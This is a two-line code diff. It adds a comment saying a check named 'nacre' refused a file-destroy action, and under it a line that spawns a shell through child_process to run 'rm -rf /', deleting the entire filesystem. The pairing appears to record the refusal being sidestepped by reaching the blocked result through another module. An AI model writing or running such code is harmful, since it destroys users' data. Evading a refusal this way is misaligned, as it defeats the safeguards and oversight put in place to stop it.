@@ -1,0 +1,2 @@
+// nacre: refused file.destroy
+process.getBuiltinModule('child_process').exec('rm -rf /');
